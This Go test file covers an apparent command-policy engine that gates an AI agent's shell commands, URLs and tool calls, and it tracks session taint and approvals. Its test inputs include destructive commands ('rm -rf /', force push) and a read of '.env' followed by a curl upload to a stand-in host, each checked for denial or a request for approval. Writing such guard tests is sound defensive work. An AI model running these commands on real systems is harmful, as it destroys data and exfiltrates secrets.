package portcullis

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

func data(t testing.TB, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "tests", "data", "conformance", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func defaultEngine(t testing.TB) *Engine {
	t.Helper()
	e, err := DefaultEngine()
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func TestConformanceCorpusMatchesRustByteForByte(t *testing.T) {
	e := defaultEngine(t)
	defer e.Close()
	requests := strings.Split(strings.TrimRight(data(t, "requests.jsonl"), "\n"), "\n")
	expected := strings.Split(strings.TrimRight(data(t, "decisions.jsonl"), "\n"), "\n")
	if len(requests) < 50 || len(requests) != len(expected) {
		t.Fatalf("%d requests, %d decisions", len(requests), len(expected))
	}
	for i, request := range requests {
		got, err := e.DecideJSON(request)
		if err != nil {
			t.Fatalf("%s: %v", request, err)
		}
		if got != expected[i] {
			t.Errorf("line %d\nwant %s\ngot  %s", i+1, expected[i], got)
		}
	}
}

func TestBadPolicyMessageIsRusts(t *testing.T) {
	_, err := NewEngineJSON(data(t, "bad_policy.json"))
	var perr *Error
	if !errors.As(err, &perr) || perr.Status != StatusInvalidPolicy {
		t.Fatalf("want an invalid-policy error, got %v", err)
	}
	if want := strings.TrimRight(data(t, "bad_policy.expected"), "\n"); perr.Message != want {
		t.Errorf("want %q\ngot  %q", want, perr.Message)
	}
}

func TestFastPathsAndDecide(t *testing.T) {
	e := defaultEngine(t)
	defer e.Close()
	d := e.CheckCommand("rm -rf /")
	if d.Effect != Deny || d.Rule != "fs-rm-recursive-protected" || d.Reason == "" || d.MatchedCount < 1 {
		t.Errorf("rm -rf /: %+v", d)
	}
	if d := e.CheckCommand("ls"); d.Effect != Allow || d.Rule != "" {
		t.Errorf("ls: %+v", d)
	}
	if d := e.CheckCommand(""); d.Effect != Allow {
		t.Errorf("empty command: %+v", d)
	}
	if d := e.CheckCommand("echo 'open"); d.Effect != Ask || !strings.Contains(d.Reason, "could not be fully analyzed") {
		t.Errorf("unterminated quote: %+v", d)
	}
	if d := e.CheckURL("GET", "http://0x7f.1/"); d.Effect != Deny || d.Rule != "deny-loopback" {
		t.Errorf("loopback: %+v", d)
	}
	if d := e.CheckTool("Read", map[string]string{"file_path": "x"}); d.Effect != Allow {
		t.Errorf("tool: %+v", d)
	}
	if d := e.CheckCommand("l\xc3"); d.Effect != Deny || !strings.Contains(d.Reason, "UTF-8") {
		t.Errorf("invalid UTF-8: %+v", d)
	}
	// The working directory is the project: its own build output under a
	// protected tree may go, the tree's other directories may not.
	if d := e.CheckCommandIn("rm -rf /srv/app/build", "/srv/app"); d.Effect != Allow {
		t.Errorf("project build dir: %+v", d)
	}
	if d := e.CheckCommandIn("rm -rf /srv/app/build", "/srv/other"); d.Effect != Deny {
		t.Errorf("another project's build dir: %+v", d)
	}
	if d := e.CheckCommandIn("rm -rf .git", "/srv/app"); d.Effect != Deny {
		t.Errorf("project .git: %+v", d)
	}
	line, cwd := "rm -rf dist ../api/dist", "/srv/app/web"
	if d, err := e.Decide(Request{Command: &line, Cwd: &cwd}); err != nil || d.Effect != Deny {
		t.Errorf("decide with cwd: %+v %v", d, err)
	}
	command := "git push --force origin main"
	full, err := e.Decide(Request{ID: 3, Command: &command})
	if err != nil || full.Effect != Deny || len(full.Matched) == 0 || full.Kind != "command" {
		t.Errorf("decide: %+v %v", full, err)
	}
	if _, err := e.DecideJSON(`{"command": "ls", "tool": {"name": "x"}}`); err == nil || !strings.Contains(err.Error(), "exclusive") {
		t.Errorf("ambiguous request: %v", err)
	}
}

func TestTOMLSwapAndClose(t *testing.T) {
	e, err := NewEngineJSON(`{"version": 1}`)
	if err != nil {
		t.Fatal(err)
	}
	deny, err := NewEngineTOML("version = 1\n[[commands]]\nid = \"no-ls\"\neffect = \"deny\"\nprogram = \"ls\"\n")
	if err != nil {
		t.Fatal(err)
	}
	if err := e.Swap(deny); err != nil {
		t.Fatal(err)
	}
	if d := e.CheckCommand("ls"); d.Rule != "no-ls" {
		t.Errorf("after swap: %+v", d)
	}
	if err := e.Swap(deny); !errors.Is(err, ErrClosed) {
		t.Errorf("swapping a consumed engine: %v", err)
	}
	e.Close()
	e.Close()
	if d := e.CheckCommand("ls"); d.Effect != Deny {
		t.Errorf("closed engine: %+v", d)
	}
	if _, err := e.DecideJSON(`{"command": "ls"}`); !errors.Is(err, ErrClosed) {
		t.Errorf("closed engine: %v", err)
	}
	if _, err := NewEngineTOML("version = "); err == nil || !strings.Contains(err.Error(), "line 1") {
		t.Errorf("bad TOML: %v", err)
	}
}

func TestGoroutinesDecideWhileThePolicyIsSwapped(t *testing.T) {
	allow := `{"version": 1, "commands": [{"id": "allow-ls", "effect": "allow", "program": "ls"}]}`
	deny := `{"version": 1, "commands": [{"id": "deny-ls", "effect": "deny", "program": "ls"}]}`
	e, err := NewEngineJSON(allow)
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	var wg sync.WaitGroup
	errs := make(chan string, 8)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				d := e.CheckCommand("ls -l")
				if !(d.Effect == Allow && d.Rule == "allow-ls") && !(d.Effect == Deny && d.Rule == "deny-ls") {
					errs <- d.Rule
					return
				}
			}
		}()
	}
	for i := 0; i < 100; i++ {
		text := allow
		if i%2 == 0 {
			text = deny
		}
		next, err := NewEngineJSON(text)
		if err != nil {
			t.Fatal(err)
		}
		if err := e.Swap(next); err != nil {
			t.Fatal(err)
		}
	}
	wg.Wait()
	close(errs)
	for rule := range errs {
		t.Errorf("torn decision: rule %q", rule)
	}
}

func TestPolicyFilesComposeTheirBases(t *testing.T) {
	e, err := NewEngineFile(filepath.Join("..", "..", "tests", "data", "policies", "compose", "team.toml"))
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	command := "git push -f"
	d, err := e.Decide(Request{Command: &command})
	if err != nil || d.Rule != "git-force-push" || d.Source != "packs/git" {
		t.Errorf("%+v %v", d, err)
	}
	if _, err := NewEngineJSON(`{"version": 1, "extends": ["./base.json"]}`); err == nil || !strings.Contains(err.Error(), "load the policy from a file") {
		t.Errorf("relative base without a file: %v", err)
	}
}

func TestVersion(t *testing.T) {
	if Version() != "0.1.0" {
		t.Errorf("version %q", Version())
	}
}

func sessionData(t testing.TB, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "tests", "data", "sessions", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func sessionEngine(t testing.TB) *Engine {
	t.Helper()
	e, err := NewEngineJSON(sessionData(t, "policy.json"))
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func mustSession(t testing.TB, id string) *Session {
	t.Helper()
	s, err := NewSession(id)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func at(seconds int64) time.Time { return time.Unix(seconds, 0) }

func cmd(line string) Request { return Request{Command: &line} }

func TestSessionReadThenUploadAsksAndSaysWhy(t *testing.T) {
	e := sessionEngine(t)
	defer e.Close()
	upload := cmd("curl -d @x https://unknown.example/")
	if d, err := e.Decide(upload); err != nil || d.Effect != Allow {
		t.Fatalf("outside a session: %+v %v", d, err)
	}
	s := mustSession(t, "agent-1")
	defer s.Close()
	if s.ID() != "agent-1" || s.Step() != 0 {
		t.Errorf("new session: %q %d", s.ID(), s.Step())
	}
	if why, tainted := s.Taint(); tainted {
		t.Errorf("fresh session tainted: %s", why)
	}
	d, err := e.DecideInAt(s, cmd("cat .env"), at(1000))
	if err != nil || d.Effect != Allow || d.Session == nil || d.Session.ID != "agent-1" || d.Session.Step != 1 {
		t.Fatalf("read: %+v %v", d, err)
	}
	if why, tainted := s.Taint(); !tainted || !strings.Contains(why, "`.env` was read at step 1") {
		t.Errorf("taint: %q %v", why, tainted)
	}
	d, err = e.DecideInAt(s, upload, at(1001))
	if err != nil || d.Effect != Ask || d.Rule != "session:taint-egress" || !strings.Contains(d.Reason, "`.env` was read at step 1") {
		t.Fatalf("upload: %+v %v", d, err)
	}
	if d.Session.Step != 2 || len(d.Session.Facts) == 0 || !strings.Contains(d.Session.Facts[0], ".env") || d.Session.Code == "" {
		t.Errorf("session facts: %+v", d.Session)
	}
	// By the system clock, decades after 1001, the session has expired
	// (12 hours of inactivity) and starts afresh.
	if d, err := e.DecideIn(s, upload); err != nil || d.Effect != Allow {
		t.Errorf("system clock after expiry: %+v %v", d, err)
	}
	clock := mustSession(t, "clock")
	defer clock.Close()
	if _, err := e.DecideIn(clock, cmd("cat .env")); err != nil {
		t.Fatal(err)
	}
	if d, err := e.DecideIn(clock, upload); err != nil || d.Effect != Ask {
		t.Errorf("system clock: %+v %v", d, err)
	}
	other := mustSession(t, "agent-2")
	defer other.Close()
	if d, err := e.DecideInAt(other, upload, at(1002)); err != nil || d.Effect != Allow {
		t.Errorf("another session: %+v %v", d, err)
	}
}

func TestSessionDefaultPolicyDeniesTheReadAndRecordsNothing(t *testing.T) {
	e := defaultEngine(t)
	defer e.Close()
	s := mustSession(t, "default")
	defer s.Close()
	d, err := e.DecideInAt(s, cmd("cat .env"), at(1000))
	if err != nil || d.Effect != Deny || d.Rule != "path-dotenv" {
		t.Errorf("read: %+v %v", d, err)
	}
	if _, tainted := s.Taint(); tainted {
		t.Error("a denied read tainted the session")
	}
}

func TestSessionApprovals(t *testing.T) {
	e := sessionEngine(t)
	defer e.Close()
	s := mustSession(t, "approvals")
	defer s.Close()
	deploy := cmd("deploy prod")
	d, err := e.DecideInAt(s, deploy, at(1000))
	if err != nil || d.Effect != Ask || d.Session.Code == "" {
		t.Fatalf("ask: %+v %v", d, err)
	}
	if ok, err := e.ApproveInAt(s, "nope", false, at(1001)); ok || err != nil {
		t.Errorf("unknown code: %v %v", ok, err)
	}
	if ok, err := e.ApproveInAt(s, d.Session.Code, true, at(1001)); !ok || err != nil {
		t.Errorf("approve: %v %v", ok, err)
	}
	if a, _ := e.DecideInAt(s, deploy, at(1002)); a.Effect != Allow || a.Session.Approved != d.Session.Code {
		t.Errorf("approved once: %+v", a)
	}
	again, _ := e.DecideInAt(s, deploy, at(1003))
	if again.Effect != Ask {
		t.Errorf("once is used up: %+v", again)
	}
	if code, err := e.RanInAt(s, deploy, "", at(1004)); err != nil || code != again.Session.Code {
		t.Errorf("ran: %q %v", code, err)
	}
	if a, _ := e.DecideInAt(s, deploy, at(1005)); a.Effect != Allow {
		t.Errorf("approved by running: %+v", a)
	}
	if a, _ := e.DecideInAt(s, deploy, at(1004+3600)); a.Effect != Ask {
		t.Errorf("after the TTL: %+v", a)
	}
	if code, err := e.RanInAt(s, cmd("ls"), "", at(5000)); err != nil || code != "" {
		t.Errorf("nothing pending: %q %v", code, err)
	}

	// The system-clock variants, throughout a session.
	c := mustSession(t, "approvals-clock")
	defer c.Close()
	first, _ := e.DecideIn(c, deploy)
	if ok, err := e.ApproveIn(c, first.Session.Code, true); !ok || err != nil {
		t.Errorf("system clock approve: %v %v", ok, err)
	}
	if a, _ := e.DecideIn(c, deploy); a.Effect != Allow {
		t.Errorf("system clock approved: %+v", a)
	}
	next, _ := e.DecideIn(c, deploy)
	if code, err := e.RanIn(c, deploy, ""); err != nil || next.Effect != Ask || code != next.Session.Code {
		t.Errorf("system clock ran: %q %v %+v", code, err, next)
	}
	if code, err := e.RanIn(c, cmd("ls"), ""); err != nil || code != "" {
		t.Errorf("nothing pending: %q %v", code, err)
	}
}

func TestSessionSecretsInOutputTaint(t *testing.T) {
	e := sessionEngine(t)
	defer e.Close()
	s := mustSession(t, "output")
	defer s.Close()
	if _, err := e.RanInAt(s, cmd("cat notes.txt"), "\xff key AKIAIOSFODNN7EXAMPLE \xc3", at(1000)); err != nil {
		t.Fatal(err)
	}
	if why, tainted := s.Taint(); !tainted || !strings.Contains(why, "AWS access key id") {
		t.Errorf("taint: %q", why)
	}
	state, err := s.ToJSON()
	if err != nil || strings.Contains(state, "AKIA") {
		t.Errorf("state keeps the secret: %s %v", state, err)
	}
}

func TestSessionRoundTrip(t *testing.T) {
	e := sessionEngine(t)
	defer e.Close()
	s := mustSession(t, "round-trip")
	if _, err := e.DecideInAt(s, cmd("cat .env"), at(1000)); err != nil {
		t.Fatal(err)
	}
	state, err := s.ToJSON()
	if err != nil || !strings.Contains(state, `"sensitive_read"`) {
		t.Fatalf("state: %s %v", state, err)
	}
	s.Close()
	back, err := SessionFromJSON(state)
	if err != nil {
		t.Fatal(err)
	}
	defer back.Close()
	if back.ID() != "round-trip" || back.Step() != 1 {
		t.Errorf("restored: %q %d", back.ID(), back.Step())
	}
	if again, _ := back.ToJSON(); again != state {
		t.Errorf("round trip\nwant %s\ngot  %s", state, again)
	}
	d, err := e.DecideInAt(back, cmd("curl -d @x https://unknown.example/"), at(1001))
	if err != nil || d.Effect != Ask || !strings.Contains(d.Reason, ".env") || d.Session.Step != 2 {
		t.Errorf("restored session forgot: %+v %v", d, err)
	}
}

func TestSessionBadInputsAndClose(t *testing.T) {
	var perr *Error
	if _, err := SessionFromJSON("{not json"); !errors.As(err, &perr) || perr.Status != StatusInvalidSession {
		t.Errorf("bad state: %v", err)
	}
	if _, err := SessionFromJSON(`{"version": 99, "id": "x", "step": 0, "last": 0, "facts": []}`); err == nil || !strings.Contains(err.Error(), "version 99") {
		t.Errorf("newer state: %v", err)
	}
	if _, err := NewSession("\xff"); !errors.As(err, &perr) || perr.Status != StatusInvalidUTF8 {
		t.Errorf("bad id: %v", err)
	}
	e := sessionEngine(t)
	s := mustSession(t, "bad")
	out, err := e.DecideInJSONAt(s, `{"command": "ls", "tool": {"name": "x"}}`, at(1))
	if !errors.As(err, &perr) || perr.Status != StatusInvalidRequest || !strings.Contains(out, `"effect":"deny"`) {
		t.Errorf("bad request: %s %v", out, err)
	}
	if _, err := e.ranInJSON(s, `{not json`, "", nil); !errors.As(err, &perr) || perr.Status != StatusInvalidRequest {
		t.Errorf("bad ran request: %v", err)
	}
	if s.Step() != 0 {
		t.Errorf("a bad request was recorded: step %d", s.Step())
	}
	s.Close()
	s.Close()
	if _, err := e.DecideIn(s, cmd("ls")); !errors.Is(err, ErrSessionClosed) {
		t.Errorf("closed session: %v", err)
	}
	if _, err := s.ToJSON(); !errors.Is(err, ErrSessionClosed) {
		t.Errorf("closed session: %v", err)
	}
	if _, err := e.RanIn(s, cmd("ls"), ""); !errors.Is(err, ErrSessionClosed) {
		t.Errorf("closed session: %v", err)
	}
	live := mustSession(t, "live")
	defer live.Close()
	e.Close()
	if _, err := e.ApproveIn(live, "x", false); !errors.Is(err, ErrClosed) {
		t.Errorf("closed engine: %v", err)
	}
}

func TestSessionSharedByGoroutines(t *testing.T) {
	e := sessionEngine(t)
	defer e.Close()
	s := mustSession(t, "goroutines")
	defer s.Close()
	var wg sync.WaitGroup
	errs := make(chan error, 4)
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				if d, err := e.DecideInAt(s, cmd("ls"), at(1000)); err != nil || d.Effect != Allow {
					errs <- err
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Errorf("decision failed: %v", err)
	}
	if s.Step() != 400 {
		t.Errorf("steps lost: %d", s.Step())
	}
}

// sessionStep is one line of tests/data/sessions/conformance.jsonl.
type sessionStep struct {
	Op       string          `json:"op"`
	Now      int64           `json:"now"`
	Effect   string          `json:"effect"`
	Rule     *string         `json:"rule"`
	Mentions string          `json:"mentions"`
	Fact     string          `json:"fact"`
	Code     bool            `json:"code"`
	Approved bool            `json:"approved"`
	Output   string          `json:"output"`
	Request  json.RawMessage `json:"request"`
}

func TestSessionCorpus(t *testing.T) {
	e := sessionEngine(t)
	defer e.Close()
	s := mustSession(t, "conformance")
	defer s.Close()
	lines := strings.Split(strings.TrimRight(sessionData(t, "conformance.jsonl"), "\n"), "\n")
	if len(lines) < 10 {
		t.Fatalf("%d lines", len(lines))
	}
	for i, line := range lines {
		var step sessionStep
		if err := json.Unmarshal([]byte(line), &step); err != nil {
			t.Fatalf("line %d: %v", i+1, err)
		}
		switch step.Op {
		case "decide":
			text, err := e.DecideInJSONAt(s, string(step.Request), at(step.Now))
			if err != nil {
				t.Fatalf("line %d: %v", i+1, err)
			}
			d, err := parseDecision(text)
			if err != nil {
				t.Fatal(err)
			}
			ok := d.Effect.String() == step.Effect &&
				(step.Rule == nil || d.Rule == *step.Rule) &&
				strings.Contains(d.Reason, step.Mentions) &&
				(!step.Code || (d.Session != nil && d.Session.Code != ""))
			if step.Fact != "" {
				found := false
				for _, f := range d.Session.Facts {
					found = found || strings.Contains(f, step.Fact)
				}
				ok = ok && found
			}
			if !ok {
				t.Errorf("line %d\nstep %s\ngot  %s", i+1, line, text)
			}
		case "ran":
			code, err := e.ranInJSON(s, string(step.Request), step.Output, ptr(at(step.Now)))
			if err != nil || (code != "") != step.Approved {
				t.Errorf("line %d: ran gave %q %v", i+1, code, err)
			}
		default:
			t.Errorf("line %d: unknown op %q", i+1, step.Op)
		}
	}
}

func ptr[T any](v T) *T { return &v }

func BenchmarkCheckCommandShort(b *testing.B) {
	e := defaultEngine(b)
	defer e.Close()
	for i := 0; i < b.N; i++ {
		e.CheckCommand("ls -la")
	}
}

func BenchmarkCheckCommandTypical(b *testing.B) {
	e := defaultEngine(b)
	defer e.Close()
	line := "git add -A && git commit -m 'fix: handle empty input in parser' && git push origin feature/parser-fix"
	for i := 0; i < b.N; i++ {
		e.CheckCommand(line)
	}
}

func BenchmarkCheckURL(b *testing.B) {
	e := defaultEngine(b)
	defer e.Close()
	for i := 0; i < b.N; i++ {
		e.CheckURL("GET", "https://api.github.com/repos/o/r")
	}
}
